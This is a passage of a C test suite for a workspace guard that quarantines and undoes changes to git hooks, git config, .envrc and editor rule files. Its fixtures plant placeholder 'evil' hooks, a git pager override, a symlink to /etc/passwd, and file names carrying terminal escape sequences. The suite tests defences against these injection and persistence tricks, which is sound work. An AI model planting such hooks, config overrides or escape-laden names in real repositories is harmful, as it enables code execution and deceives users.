		struct guard *g = NULL;
		struct guard_report rep = { 0 };
		int r = guard_begin(&f.o, &g, &rep, NULL);
		guard_report_free(&rep);
		put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
		_exit(r < 0 ? 2 : 0);
	}
	int status = -1;
	waitpid(pid, &status, 0);
	is_int(WIFEXITED(status) ? WEXITSTATUS(status) : -1, 0, "a run began and exited without ending");
	_cleanup_free_ char *gdir = guard_state_dir(f.state);
	_cleanup_free_ char *manifest = path_join(gdir ? gdir : "/nonexistent", "manifest");
	ok(truncate(manifest, 40) == 0, "its manifest torn");
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	struct guard_failure gf = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, &gf), -EBADMSG, "the next guard_begin refuses");
	ok(gf.step == GUARD_STEP_BASELINE && gf.path && streq(gf.path, manifest),
	   "and names the torn manifest, not the workspace (got '%s')", gf.path ? gf.path : "-");
	guard_failure_free(&gf);
	ok(!g, "and begins nothing");
	guard_report_free(&rep);
	ok(exists(f.ws, ".git/hooks/pre-commit"), "the change is left for the user to judge");
	fixture_done(&f);
}

static void test_concurrent(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	struct guard *a = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &a, &rep, NULL), 0, "first guard begun");
	guard_report_free(&rep);
	if (!a) {
		fixture_done(&f);
		return;
	}

	int to_child[2], to_parent[2];
	if (pipe2(to_child, O_CLOEXEC) < 0 || pipe2(to_parent, O_CLOEXEC) < 0) {
		perror("pipe2");
		exit(1);
	}
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		close(to_child[1]);
		close(to_parent[0]);
		struct guard *b = NULL;
		struct guard_report r = { 0 };
		int ret = guard_begin(&f.o, &b, &r, NULL);
		int msg[3] = { ret, (int)r.n_copied, (int)r.n_changes };
		guard_report_free(&r);
		/* the second run writes before the first ends */
		put(f.ws, ".git/config", "[core]\n\tpager = evil-b\n");
		write_all(to_parent[1], msg, sizeof(msg));
		char go;
		if (read(to_child[0], &go, 1) != 1 || !b)
			_exit(1);
		/* and after */
		put_mode(f.ws, ".git/hooks/from-b", "evil-b\n", 0755);
		ret = guard_end(b, &r, NULL);
		int done[2] = { ret, find_change(&r, ".git/hooks/from-b") && r.n_changes == 1 };
		guard_report_free(&r);
		guard_free(b);
		write_all(to_parent[1], done, sizeof(done));
		_exit(0);
	}
	close(to_child[0]);
	close(to_parent[1]);
	int msg[3] = { -1, -1, -1 };
	size_t got = 0;
	read_all(to_parent[0], msg, sizeof(msg), &got);
	is_int(msg[0], 0, "second guard begun in another process while the first runs");
	is_int(msg[1], 0, "it reuses the first one's baseline (nothing copied)");
	is_int(msg[2], 0, "and undoes nothing of a live run");

	put_mode(f.ws, ".git/hooks/from-a", "evil-a\n", 0755);
	is_int(guard_end(a, &rep, NULL), 0, "first guard ends while the second runs");
	check_change(&rep, ".git/hooks/from-a", GUARD_CREATED, NULL, "evil-a\n");
	check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tpager = evil-b\n");
	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
	is_str(config, "[core]\n", "the setting the second run added is dropped by the first's end");
	guard_report_free(&rep);
	guard_free(a);

	if (write(to_child[1], "g", 1) != 1)
		perror("write");
	int done[2] = { -1, 0 };
	read_all(to_parent[0], done, sizeof(done), &got);
	int status = -1;
	waitpid(pid, &status, 0);
	is_int(status, 0, "the second process finished");
	is_int(done[0], 0, "the second guard still ends cleanly");
	ok(done[1], "it undid exactly its late change");
	ok(!exists(f.ws, ".git/hooks/from-b"), "the second run's hook is gone");
	_cleanup_free_ char *qa = find_in_quarantine(f.state, ".git/hooks/from-a");
	_cleanup_free_ char *qb = find_in_quarantine(f.state, ".git/hooks/from-b");
	_cleanup_free_ char *qc = find_in_quarantine(f.state, ".git/config");
	ok(qa && qb && qc && streq(qa, "evil-a\n") && streq(qb, "evil-b\n") && strstr(qc, "evil-b"),
	   "nothing lost: every new content is in a quarantine");
	close(to_child[1]);
	close(to_parent[0]);
	fixture_done(&f);
}

static void test_unchanged(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
	size_t files = rep.n_files;
	guard_report_free(&rep);
	if (!g) {
		fixture_done(&f);
		return;
	}
	is_int(guard_end(g, &rep, NULL), 0, "guard_end on an unchanged workspace");
	is_int(rep.n_changes, 0, "reports no change");
	guard_report_free(&rep);
	guard_free(g);

	g = NULL;
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "a second guard_begin");
	is_int(rep.n_copied, 0, "copies nothing");
	is_int(rep.n_files, files, "and holds the same files");
	guard_report_free(&rep);
	if (g) {
		is_int(guard_end(g, &rep, NULL), 0, "guard_end");
		guard_report_free(&rep);
		guard_free(g);
	}

	/* the user's own edit between runs is the new baseline */
	put(f.ws, ".git/config", "[core]\n\teditor = vi\n");
	g = NULL;
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin after the user changed .git/config");
	is_int(rep.n_copied, 1, "copies that one file again");
	is_int(rep.n_changes, 0, "and undoes nothing");
	guard_report_free(&rep);
	end_unchanged(g, "guard_end", "the user's edit stays");
	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
	is_str(config, "[core]\n\teditor = vi\n", ".git/config is the user's");
	fixture_done(&f);
}

/* The names in a directory, sorted, joined by spaces. */
static char *dir_names(const char *dir)
{
	_cleanup_strv_ char **v = strv_new();
	DIR *d = opendir(dir);
	for (struct dirent *de; d && (de = readdir(d));)
		if (!streq(de->d_name, ".") && !streq(de->d_name, ".."))
			strv_add(&v, de->d_name);
	if (d)
		closedir(d);
	size_t n = strv_length(v);
	for (size_t i = 1; i < n; i++)
		for (size_t k = i; k > 0 && strcmp(v[k - 1], v[k]) > 0; k--) {
			char *t = v[k];
			v[k] = v[k - 1];
			v[k - 1] = t;
		}
	char *out = xstrdup("");
	for (size_t i = 0; i < n; i++) {
		char *j = xasprintf("%s%s%s", out, i ? " " : "", v[i]);
		free(out);
		out = j;
	}
	return out;
}

/* Runs in an unchanged workspace write nothing to the state directory
 * but their one-byte run mark: the manifest stays the very same file,
 * and nothing is made beside it. (Hand-offs without a regular file, so
 * that no entry is racy and the manifest has no reason to change.) */
static void test_nothing_written(void)
{
	_cleanup_free_ char *ws = tmp_dir("ws");
	_cleanup_free_ char *top = tmp_dir("state");
	_cleanup_free_ char *state = path_join(top, "state");
	mkdirs(ws, ".vscode");
	mkdirs(ws, "src");
	slink(ws, ".envrc", "src/env");
	struct guard_options o = { .workspace = ws, .state_dir = state, .knows = &run_guard_knowledge };
	struct stat before = { 0 }, after = { 0 };
	_cleanup_free_ char *names_before = NULL, *names_after = NULL, *manifest = NULL;
	bool all_ok = true;
	for (int i = 0; i < 3; i++) {
		struct guard *g = NULL;
		struct guard_report rep = { 0 };
		all_ok &= guard_begin(&o, &g, &rep, NULL) == 0 && rep.n_changes == 0;
		guard_report_free(&rep);
		all_ok &= g && guard_end(g, &rep, NULL) == 0 && rep.n_changes == 0;
		guard_report_free(&rep);
		guard_free(g);
		if (i == 0) {
			_cleanup_free_ char *gdir = guard_state_dir(state);
			manifest = path_join(gdir ? gdir : "/nonexistent", "manifest");
			all_ok &= stat(manifest, &before) == 0;
			names_before = dir_names(gdir ? gdir : "/nonexistent");
		}
	}
	ok(all_ok, "three runs in an unchanged workspace");
	ok(stat(manifest, &after) == 0 && after.st_ino == before.st_ino &&
	   after.st_mtim.tv_sec == before.st_mtim.tv_sec && after.st_mtim.tv_nsec == before.st_mtim.tv_nsec,
	   "the manifest is neither rewritten nor replaced");
	_cleanup_free_ char *gdir = guard_state_dir(state);
	names_after = dir_names(gdir ? gdir : "/nonexistent");
	is_str(names_after, names_before, "nothing is added to the state directory");
	ok(!strstr(names_after, "tmp") && !strstr(names_after, "runs"), "no temporary file, no registration file (%s)",
	   names_after);
	rm_rf(ws);
	rm_rf(top);
}

static void test_cross_filesystem(void)
{
	struct stat a, b;
	if (stat("/dev/shm", &a) < 0 || stat("/tmp", &b) < 0 || a.st_dev == b.st_dev || access("/dev/shm", W_OK) < 0) {
		ok(1, "quarantine on another filesystem # SKIP /dev/shm is not a second filesystem");
		return;
	}
	struct fixture f;
	fixture_init(&f, "/dev/shm");
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin with the state on another filesystem");
	guard_report_free(&rep);
	if (g) {
		put(f.ws, ".cursor/rules/a/b.md", "evil\n");
		slink(f.ws, ".cursor/rules/link", "/etc/passwd");
		put(f.ws, ".git/config", "[core]\n\tpager = evil\n");
		is_int(guard_end(g, &rep, NULL), 0, "guard_end copies across filesystems");
		check_change(&rep, ".cursor", GUARD_CREATED, "rules/a/b.md", "evil\n");
		const struct guard_change *c = find_change(&rep, ".cursor");
		_cleanup_free_ char *t = c && c->quarantined ? link_target(c->quarantined, "rules/link") : NULL;
		is_str(t, "/etc/passwd", "a symlink is copied as a symlink");
		ok(!exists(f.ws, ".cursor"), "and the original tree removed");
		check_change(&rep, ".git/config", GUARD_VETTED, NULL, "[core]\n\tpager = evil\n");
		_cleanup_free_ char *config = slurp(f.ws, ".git/config");
		is_str(config, "[core]\n", ".git/config vetted");
		guard_report_free(&rep);
		guard_free(g);
	}
	fixture_done(&f);
}

static double ms_since(unsigned long long t0)
{
	return (double)(now_usec() - t0) / 1000.0;
}

/* 100,000 files in 1,000 directories, 50 nested repositories each with
 * 14 hooks and a config: what begin and end cost. */
static void test_timing(void)
{
	/* On tmpfs where there is one: what is measured is the guard, not a
	 * virtual disk that throttles after 100,000 inodes. */
	struct statfs sf;
	bool shm = statfs("/dev/shm", &sf) == 0 && sf.f_type == TMPFS_MAGIC && access("/dev/shm", W_OK) == 0;
	_cleanup_free_ char *ws = xstrdup(shm ? "/dev/shm/stockade-guard-big-XXXXXX" : "/tmp/stockade-guard-big-XXXXXX");
	if (!mkdtemp(ws)) {
		perror("mkdtemp");
		exit(1);
	}
	_cleanup_free_ char *state_top = tmp_dir("bigstate");
	unsigned long long t0 = now_usec();
	int wfd = open(ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	char name[64];
	for (int d = 0; d < 100; d++) {
		snprintf(name, sizeof(name), "d%02d", d);
		mkdirat(wfd, name, 0755);
		int dfd = openat(wfd, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
		for (int s2 = 0; s2 < 10; s2++) {
			snprintf(name, sizeof(name), "s%d", s2);
			mkdirat(dfd, name, 0755);
			int sfd = openat(dfd, name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
			for (int i = 0; i < 100; i++) {
				snprintf(name, sizeof(name), "f%02d.c", i);
				int fd = openat(sfd, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
				if (fd >= 0)
					close(fd);
			}
			close(sfd);
		}
		close(dfd);
	}
	close(wfd);
	static const char *const hooks[] = {
		"applypatch-msg", "commit-msg", "fsmonitor-watchman", "post-update", "pre-applypatch",
		"pre-commit", "pre-merge-commit", "pre-push", "pre-rebase", "pre-receive",
		"prepare-commit-msg", "push-to-checkout", "sendemail-validate", "update",
	};
	_cleanup_free_ char *body = repeat('#', 1500);
	for (int r = 0; r < 50; r++) {
		for (size_t h = 0; h < ARRAY_SIZE(hooks); h++) {
			_cleanup_free_ char *rel = xasprintf("d%02d/s0/repo/.git/hooks/%s.sample", r, hooks[h]);
			put(ws, rel, body);
		}
		_cleanup_free_ char *cfg = xasprintf("d%02d/s0/repo/.git/config", r);
		put(ws, cfg, CONFIG);
		_cleanup_free_ char *head = xasprintf("d%02d/s0/repo/.git/HEAD", r);
		put(ws, head, "ref: refs/heads/main\n");
	}
	diag("timing: made 100,000 files and 50 repositories in %s in %.0f ms", shm ? "tmpfs" : "/tmp", ms_since(t0));

	_cleanup_free_ char *state = path_join(state_top, "state");
	struct guard_options o = { .workspace = ws, .state_dir = state, .knows = &run_guard_knowledge };
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	t0 = now_usec();
	int r = guard_begin(&o, &g, &rep, NULL);
	double begin_ms = ms_since(t0);
	size_t files = rep.n_files, copied = rep.n_copied;
	guard_report_free(&rep);
	is_int(r, 0, "guard_begin on the large workspace");
	t0 = now_usec();
	r = g ? guard_end(g, &rep, NULL) : -EINVAL;
	double end_ms = ms_since(t0);
	is_int(r, 0, "guard_end on the large workspace");
	is_int(rep.n_changes, 0, "no change");
	guard_report_free(&rep);
	guard_free(g);

	g = NULL;
	t0 = now_usec();
	r = guard_begin(&o, &g, &rep, NULL);
	double again_ms = ms_since(t0);
	is_int(r, 0, "a second guard_begin");
	is_int(rep.n_copied, 0, "reuses every copy");
	guard_report_free(&rep);
	t0 = now_usec();
	r = g ? guard_end(g, &rep, NULL) : -EINVAL;
	double end2_ms = ms_since(t0);
	guard_report_free(&rep);
	guard_free(g);
	diag("timing: begin %.1f ms (%zu files, %zu copied), end %.1f ms, second begin %.1f ms (reuse), second end %.1f ms",
	     begin_ms, files, copied, end_ms, again_ms, end2_ms);
	_cleanup_strv_ char **paths = NULL;
	t0 = now_usec();
	handoffs_list(&(struct handoff_scan){ .workspace = o.workspace, .user_home = o.user_home, .extra = o.extra }, &paths);
	diag("timing: handoffs_list %.1f ms (%zu paths)", ms_since(t0), strv_length(paths));

	t0 = now_usec();
	rm_rf(ws);
	rm_rf(state_top);
	diag("timing: removed the tree in %.0f ms", ms_since(t0));
}

static bool repos_have(const struct handoff_repos *r, const char *wt)
{
	for (size_t i = 0; i < r->n; i++)
		if (streq(r->v[i].worktree, wt))
			return true;
	return false;
}

/* The index: every directory once, where the repositories are, read back
 * as written, refreshed by change time (a repository made anywhere is
 * found, an unreadable directory is looked through and keeps its mode), a
 * damaged one refused. */
static void test_index(void)
{
	_cleanup_free_ char *ws = tmp_dir("index-ws");
	_cleanup_free_ char *state = tmp_dir("index-state");
	put(ws, "a/b/c/file", "x\n");
	put(ws, "x/.git/HEAD", "ref: refs/heads/main\n");
	put(ws, "a-b/file", "x\n");
	put(ws, "a.b/y/file", "x\n");
	put(ws, "m/.hg/store/data/d/f.i", "x\n");
	_cleanup_close_ int wfd = open(ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	_cleanup_close_ int sfd = open(state, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	struct index ix = { 0 };
	bool changed = false;
	is_int(index_refresh(wfd, ws, NULL, NULL, &ix, &changed), 0, "a first refresh lists the tree");
	ok(changed, "and says it changed");
	/* "", a, a-b, a.b, a.b/y, a/b, a/b/c, m, x: a git directory itself
	 * is not walked (its objects are no repositories), nor a .hg's store */
	is_int(ix.n, 9, "every directory once, none inside .git or .hg (%zu)", ix.n);
	struct handoff_repos repos;
	index_repos(&ix, &repos);
	ok(repos.n == 2 && repos_have(&repos, "x") && repos_have(&repos, "m"),
	   "the two repositories, git's and Mercurial's, by their working trees");
	handoff_repos_free(&repos);
	bool sorted = true;
	for (size_t i = 1; i < ix.n; i++)
		sorted &= path_cmp(ix.v[i - 1].path, ix.v[i].path) < 0;
	ok(sorted, "in path order, a name with '-' or '.' after its neighbour's subtree");

	is_int(index_store(sfd, &ix), 0, "stored");
	struct index back = { 0 };
	is_int(index_load(sfd, ws, &back), 0, "read back");
	bool same = back.n == ix.n;
	for (size_t i = 0; same && i < ix.n; i++)
		same = streq(back.v[i].path, ix.v[i].path) && back.v[i].ino == ix.v[i].ino &&
		       back.v[i].ctime_ns == ix.v[i].ctime_ns && back.v[i].git == ix.v[i].git &&
		       back.v[i].nsub == ix.v[i].nsub;
	ok(same, "as it was written, paths from parents and names");
	struct index other = { 0 };
	is_int(index_load(sfd, "/elsewhere", &other), -EBADMSG, "another workspace's index is refused");

	struct index again = { 0 };
	is_int(index_refresh(wfd, ws, &back, NULL, &again, &changed), 0, "a refresh of an unchanged tree");
	ok(!changed, "finds nothing changed");
	index_free(&again);

	/* a repository made deep down, and a directory made unreadable */
	put(ws, "a/b/c/.git/HEAD", "ref: refs/heads/main\n");
	_cleanup_free_ char *ab = path_join(ws, "a.b");
	put(ws, "a.b/y/.git/HEAD", "ref: refs/heads/main\n");
	chmod(ab, 0);
	is_int(index_refresh(wfd, ws, &back, NULL, &again, &changed), 0, "a refresh after changes");
	ok(changed, "finds them");
	index_repos(&again, &repos);
	ok(repos_have(&repos, "a/b/c") && repos_have(&repos, "a.b/y") && repos_have(&repos, "x"),
	   "a repository made deep down is found, and one in a directory made unreadable");
	handoff_repos_free(&repos);
	struct stat st;
	ok(stat(ab, &st) == 0 && (st.st_mode & 07777) == 0, "which keeps its mode");
	chmod(ab, 0755);
	index_free(&again);

	/* torn */
	_cleanup_free_ char *file = path_join(state, "index");
	ok(truncate(file, 60) == 0, "the stored index torn");
	is_int(index_load(sfd, ws, &other), -EBADMSG, "is refused, never believed");

	index_free(&ix);
	index_free(&back);
	rm_rf(ws);
	rm_rf(state);
}

/* A hand-off whose name holds what a record line or a terminal would
 * take for structure: a newline, an escape sequence, a backslash, a byte
 * that is not UTF-8. Its record reads back, the list names it exactly,
 * and restore puts it back under that very name. */
static void test_hostile_names(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "hostile names: guard_begin");
	guard_report_free(&rep);
	if (!g) {
		fixture_done(&f);
		return;
	}
	static const char *const names[] = { ".git/hooks/pre-commit\nx", ".git/hooks/\x1b]0;title\x07\x1b[31mred",
					     ".git/hooks/back\\nslash\\", ".git/hooks/\xff\xfe\r\t\x7f" };
	for (size_t i = 0; i < ARRAY_SIZE(names); i++)
		put_mode(f.ws, names[i], "#!/bin/sh\nevil\n", 0755);
	is_int(guard_end(g, &rep, NULL), 0, "hostile names: guard_end");
	guard_free(g);
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		const struct guard_change *c = find_change(&rep, names[i]);
		_cleanup_free_ char *shown = str_visible(names[i]);
		ok(c && c->id, "'%s' set aside, with an id", shown);
	}
	guard_report_free(&rep);

	struct guard_quarantined *v = NULL;
	size_t n = 0;
	is_int(guard_quarantine_list(f.state, &v, &n), 0, "the quarantine lists");
	is_int((int)n, (int)ARRAY_SIZE(names), "one item each");
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		_cleanup_free_ char *shown = str_visible(names[i]);
		const struct guard_quarantined *it = NULL;
		for (size_t k = 0; k < n && !it; k++)
			if (v[k].path && streq(v[k].path, names[i]))
				it = &v[k];
		if (!ok(it != NULL, "its record reads back the name exactly: '%s'", shown))
			continue;
		struct guard_quarantined back;
		struct guard_failure fl;
		is_int(guard_quarantine_restore(f.state, it->id, &back, &fl), 0, "restore '%s'", shown);
		guard_failure_free(&fl);
		guard_quarantined_done(&back);
		_cleanup_free_ char *full = path_join(f.ws, names[i]);
		struct stat st;
		ok(lstat(full, &st) == 0 && S_ISREG(st.st_mode), "'%s' is back under its very name", shown);
	}
	guard_quarantined_free(v, n);
	/* Kept where they are, they are in the next run's baseline, which
	 * reads back as written: the run begins and ends with nothing to
	 * undo. */
	g = NULL;
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "hostile names in the baseline: guard_begin");
	guard_report_free(&rep);
	if (g) {
		is_int(guard_end(g, &rep, NULL), 0, "hostile names in the baseline: guard_end reads it back");
		is_int((int)rep.n_changes, 0, "and finds nothing to undo");
		guard_report_free(&rep);
		guard_free(g);
	}
	fixture_done(&f);
}

/* The settings a record names as dropped: one a line, so a subsection
 * with ", " in it stays whole; a record written before, ", " between. */
static void test_dropped_settings(void)
{
	struct guard_quarantined it = { .detail = (char *)"remote.a, b.url\ncore.fsmonitor" };
	_cleanup_strv_ char **v = guard_quarantined_settings(&it);
	ok(strv_length(v) == 2 && streq(v[0], "remote.a, b.url") && streq(v[1], "core.fsmonitor"),
	   "settings one a line, a subsection with ', ' whole");
	struct guard_quarantined old = { .detail = (char *)"remote.origin.url, core.editor" };
	_cleanup_strv_ char **w = guard_quarantined_settings(&old);
	ok(strv_length(w) == 2 && streq(w[0], "remote.origin.url") && streq(w[1], "core.editor"),
	   "an older record's settings, joined by ', '");
	struct guard_quarantined none = { 0 };
	_cleanup_strv_ char **x = guard_quarantined_settings(&none);
	ok(x && !x[0], "no detail: no settings");
}

/* ---------------------------------------------------------------------
 * A guard kept across many commands: guard_watch and guard_check
 * ------------------------------------------------------------------ */

/* n directories under rel, a few levels deep, as a node_modules is */
static void make_dirs(const char *ws, const char *rel, int n)
{
	for (int i = 0; i < n; i++) {
		_cleanup_free_ char *d = xasprintf("%s/p%d/q%d/r%d", rel, i % 10, (i / 10) % 10, i);
		mkdirs(ws, d);
	}
}

static size_t index_size(const char *ws)
{
	size_t n = 0;
	_cleanup_close_ int wfd = open(ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct index ix = { 0 };
	bool changed;
	if (index_refresh(wfd, ws, NULL, NULL, &ix, &changed) == 0)
		n = ix.n;
	index_free(&ix);
	return n;
}

/* One check: its status, its report freed after the caller's look. */
static int check(struct guard *g, unsigned flags, struct guard_report *rep)
{
	guard_report_free(rep);
	return guard_check(g, flags, rep, NULL);
}

/* A shared writable mapping of a file's first byte, its descriptor
 * closed: what is written through it makes no event (the file is closed
 * for writing, an event, only once it is unmapped). */
static char *map_first_byte(const char *ws, const char *rel)
{
	_cleanup_free_ char *full = path_join(ws, rel);
	int fd = open(full, O_RDWR | O_CLOEXEC);
	char *m = fd >= 0 ? mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) : MAP_FAILED;
	if (fd >= 0)
		close(fd);
	if (m == MAP_FAILED) {
		fprintf(stderr, "mmap %s: %m\n", full);
		exit(1);
	}
	return m;
}

static void test_watch(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	make_dirs(f.ws, "node_modules", 2000);
	size_t dirs = index_size(f.ws);
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin in a workspace of %zu directories", dirs);
	guard_report_free(&rep);
	if (!g) {
		fixture_done(&f);
		return;
	}
	is_int(guard_watch_fd(g), -1, "no watch before guard_watch");
	is_int(guard_watch(g), 0, "guard_watch");
	ok(guard_watch_fd(g) >= 0, "and its descriptor to poll");
	bool busy = false;

	/* 1. a change undone, the run kept */
	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
	index_dirs_stated = 0;
	is_int(check(g, 0, &rep), 0, "guard_check after a hook was planted");
	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	ok(!exists(f.ws, ".git/hooks/pre-commit"), "the hook is gone");
	is_int(index_dirs_stated, 0, "not one directory of the workspace stat'ed for it");
	ok(guard_workspace_busy(f.state, f.ws, &busy) == 0 && busy, "the run is still registered");
	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nagain\n", 0755);
	is_int(check(g, 0, &rep), 0, "a second check");
	check_change(&rep, ".git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nagain\n");
	is_int(rep.n_changes, 1, "against the same baseline: that hook alone");

	/* 2. nothing changed: no directory stat'ed */
	index_dirs_stated = 0;
	is_int(check(g, 0, &rep), 0, "a check with nothing changed");
	is_int(rep.n_changes, 0, "finds nothing");
	is_int(index_dirs_stated, 0, "and stats no directory of the %zu", dirs);

	/* 3. a new repository in a deep new directory, found by listing the
	 *    new directories alone */
	put_mode(f.ws, "node_modules/p3/new/a/b/c/.git/hooks/post-merge", "#!/bin/sh\nevil\n", 0755);
	put(f.ws, "node_modules/p3/new/a/b/c/.git/HEAD", "ref: refs/heads/main\n");
	index_dirs_stated = 0;
	is_int(check(g, 0, &rep), 0, "a check after a repository was made deep in a new directory");
	check_change(&rep, "node_modules/p3/new/a/b/c/.git/hooks/post-merge", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	ok(!exists(f.ws, "node_modules/p3/new/a/b/c/.git/hooks/post-merge"), "its hook is gone");
	ok(index_dirs_stated <= 8, "only the new directories listed (%lu stat'ed)", index_dirs_stated);

	/* moved in from outside the workspace, whole */
	_cleanup_free_ char *outside = tmp_dir("outside");
	put_mode(outside, "tree/x/.git/hooks/pre-push", "#!/bin/sh\nevil\n", 0755);
	_cleanup_free_ char *from = path_join(outside, "tree");
	_cleanup_free_ char *to = path_join(f.ws, "node_modules/p4/moved");
	ok(rename(from, to) == 0, "a tree with a repository moved in");
	is_int(check(g, 0, &rep), 0, "a check");
	check_change(&rep, "node_modules/p4/moved/x/.git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	/* moved within it, then a repository made where it is now */
	_cleanup_free_ char *to2 = path_join(f.ws, "node_modules/p5/moved-again");
	ok(rename(to, to2) == 0, "moved within the workspace");
	is_int(check(g, 0, &rep), 0, "a check");
	put_mode(f.ws, "node_modules/p5/moved-again/x/y/.git/hooks/pre-push", "#!/bin/sh\nevil\n", 0755);
	index_dirs_stated = 0;
	is_int(check(g, 0, &rep), 0, "a check after a repository was made in it");
	check_change(&rep, "node_modules/p5/moved-again/x/y/.git/hooks/pre-push", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	ok(index_dirs_stated <= 4, "where it is now, found by its events (%lu stat'ed)", index_dirs_stated);

	/* 4. GUARD_CHECK_IF_SEEN: only when the events name a hand-off. A
	 *    write through a shared mapping makes none: the check after a
	 *    command still finds it. */
	char *m = map_first_byte(f.ws, ".envrc");
	is_int(check(g, 0, &rep), 0, "a check");
	m[0] = 'X';
	put(f.ws, "src/other.c", "int x;\n");
	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen, after a write outside the hand-offs");
	is_int(rep.n_changes, 0, "does nothing");
	_cleanup_free_ char *mapped = slurp(f.ws, ".envrc");
	is_str(mapped, "Xxport A=1\n", "so a write through a mapping stays for now");
	munmap(m, 1);
	put(f.ws, ".vscode/tasks.json", "{}\n");
	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen, after a hand-off was made");
	check_change(&rep, ".vscode", GUARD_CREATED, NULL, NULL);
	check_change(&rep, ".envrc", GUARD_CHANGED, NULL, "Xxport A=1\n");
	_cleanup_free_ char *envrc = slurp(f.ws, ".envrc");
	is_str(envrc, "export A=1\n", "and every hand-off is looked at then");
	m = map_first_byte(f.ws, ".envrc");
	is_int(check(g, 0, &rep), 0, "a check");
	m[0] = 'Y';
	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen");
	is_int(rep.n_changes, 0, "sees nothing");
	is_int(check(g, 0, &rep), 0, "a check after a command");
	check_change(&rep, ".envrc", GUARD_CHANGED, NULL, "Yxport A=1\n");
	munmap(m, 1);
	/* a hand-off file written through another link to it: its own
	 * watch sees it */
	is_int(check(g, 0, &rep), 0, "a check");
	_cleanup_free_ char *hook = path_join(f.ws, ".git/hooks/post-checkout");
	_cleanup_free_ char *alias = path_join(f.ws, "src/alias");
	ok(link(hook, alias) == 0, "a hard link to a hook, elsewhere");
	/* The link is a change of its own (the hook gained a name): a check
	 * that sees it undoes it, and the write through the other name then
	 * no longer reaches the hook; one that sees the write undoes that. */
	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen");
	bool linked = find_change(&rep, ".git/hooks/post-checkout") != NULL;
	put_mode(f.ws, "src/alias", "#!/bin/sh\nevil\n", 0755);
	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "a check if seen, the hook written through the link");
	if (linked)
		ok(find_change(&rep, ".git/hooks/post-checkout") == NULL,
		   "the link undone at the first check: the write through it did not reach the hook");
	else
		check_change(&rep, ".git/hooks/post-checkout", GUARD_CHANGED, NULL, "#!/bin/sh\nevil\n");
	_cleanup_free_ char *back = slurp(f.ws, ".git/hooks/post-checkout");
	is_str(back, "#!/bin/sh\necho mine\n", "the hook is the user's again");

	/* 5. events lost (the queue overflowed): a full refresh */
	is_int(check(g, 0, &rep), 0, "a check");
	_cleanup_free_ char *q = slurp("/proc/sys/fs/inotify/max_queued_events", NULL);
	long max_queued = q ? strtol(q, NULL, 10) : 16384;
	mkdirs(f.ws, "flood");
	is_int(check(g, 0, &rep), 0, "a check: the new directory watched");
	_cleanup_close_ int flood = open(f.ws, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	flood = openat(flood, "flood", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	for (long i = 0; i < max_queued / 2 + 16; i++) {
		char name[32];
		snprintf(name, sizeof(name), "f%ld", i);
		int fd = openat(flood, name, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
		if (fd >= 0)
			close(fd);
		unlinkat(flood, name, 0);
	}
	/* its events lost with the rest */
	put_mode(f.ws, "node_modules/p6/lost/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
	index_dirs_stated = 0;
	is_int(check(g, 0, &rep), 0, "a check after %ld events, more than the queue holds", max_queued / 2 * 2 + 32);
	check_change(&rep, "node_modules/p6/lost/.git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	ok(index_dirs_stated >= dirs, "found by a full refresh (%lu of %zu stat'ed)", index_dirs_stated, dirs);
	ok(guard_watch_fd(g) >= 0, "and the watch goes on");
	put_mode(f.ws, "node_modules/p7/again/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
	index_dirs_stated = 0;
	is_int(check(g, 0, &rep), 0, "a check after that");
